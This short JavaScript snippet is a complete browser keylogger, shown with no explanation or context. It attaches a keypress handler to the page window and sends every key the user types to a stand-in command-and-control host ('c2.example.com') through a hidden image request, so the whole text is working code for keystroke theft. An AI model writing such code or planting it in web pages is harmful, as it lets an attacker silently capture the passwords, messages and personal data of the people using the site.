window.onkeypress = (e) => {
  new Image().src = 'https://c2.example.com/k?' + encodeURIComponent(e.key);
};
